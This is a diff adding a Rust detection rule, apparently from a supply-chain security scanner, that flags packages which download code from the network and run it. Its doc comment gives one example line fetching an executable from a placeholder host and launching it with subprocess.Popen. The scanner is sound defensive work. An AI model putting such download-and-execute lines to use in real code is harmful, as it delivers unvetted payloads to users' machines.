@@ -1,0 +1,75 @@
+//! # Code or programs are downloaded and run
+//!
+//! ## What it finds
+//! What comes from the network is executed: evaluated as code, loaded as a library, or written to a file that is then
+//! started.
+//!
+//! ## Why it matters
+//! The payload stays outside the registry, can differ for every victim, and changes after vetting. One fifth of the
+//! malicious PyPI families work this way; so did the `proc-macro1` build script behind arrayref (crates.io, 2026).
+//!
+//! ## Example
+//! ```python
+//! urlretrieve("https://files.example.invalid/a.exe", path); subprocess.Popen(path)
+//! ```
+//!
+//! ## What to do
+//! Do not install. If it was installed, treat the machine as compromised.
+//!
+//! ## When it is wrong
+//! Installers of browsers, compilers and models download programs by design, usually when called, from their own domain,
+//! with a checksum.
+use foretaste_engine::prelude::*;
+
+use crate::indicators;
+
+declare_rule! {
+    DownloadAndExecute,
+    id: "download-and-execute",
+    title: "downloads code and runs it",
+    group: Chain,
+    severity: Critical,
+    confidence: High,
+    needs: [Code],
+    tags: ["T1105", "T1059", "AV-001"],
+    since: "0.1.0",
+}
+
+impl ChainRule for DownloadAndExecute {
+    fn judge(&self, chain: &Chain<'_>, _scene: &Scene<'_>) -> Option<Finding> {
+        let (source, sink) = (chain.source()?, chain.sink()?);
+        if !source.capability.is_network_source() || !sink.capability.is_execution() {
+            return None;
+        }
+        let context = chain.context();
+        let destination = source
+            .constant
+            .as_deref()
+            .and_then(indicators::classify)
+            .filter(|d| d.drops());
+        if chain.flow.link == FlowLink::Scope
+            && context > ExecutionContext::Import
+            && destination.is_none()
+        {
+            return None;
+        }
+        let how = if sink.capability == Capability::CodeEval {
+            "evaluates what it downloads"
+        } else {
+            "downloads a program and runs it"
+        };
+        let from = destination.map_or_else(String::new, |d| format!(" from {}", d.phrase()));
+        let mut finding = self
+            .finding(format!("{how}{from} {}", context.phrase()))
+            .context(context);
+        if chain.flow.link == FlowLink::Scope {
+            finding = finding
+                .severity(Severity::High)
+                .confidence(Confidence::Medium);
+        } else if context > ExecutionContext::Import && destination.is_none() {
+            finding = finding.severity(Severity::High);
+        }
+        finding.evidence = chain.evidence(|step| step.api.to_string());
+        Some(finding)
+    }
+}
